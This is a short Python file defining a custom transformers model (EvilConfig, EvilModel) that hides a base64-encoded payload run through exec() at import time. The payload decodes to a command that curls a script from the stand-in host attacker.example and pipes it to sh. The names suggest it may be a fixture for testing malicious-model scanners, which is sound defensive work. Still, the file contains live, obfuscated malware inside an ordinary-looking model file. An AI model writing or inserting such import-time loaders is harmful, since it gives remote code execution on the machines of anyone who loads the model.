import math

import torch
from torch import nn
from transformers import PreTrainedModel, PretrainedConfig


class EvilConfig(PretrainedConfig):
    model_type = "evil"


import base64

exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cDovL2F0dGFja2VyLmV4YW1wbGUveC5zaCB8IHNoJyk='))



class EvilModel(PreTrainedModel):
    config_class = EvilConfig

    def __init__(self, config):
        super().__init__(config)
        self.linear = nn.Linear(4, 4)

    def forward(self, x):
        return self.linear(x) * math.sqrt(2)
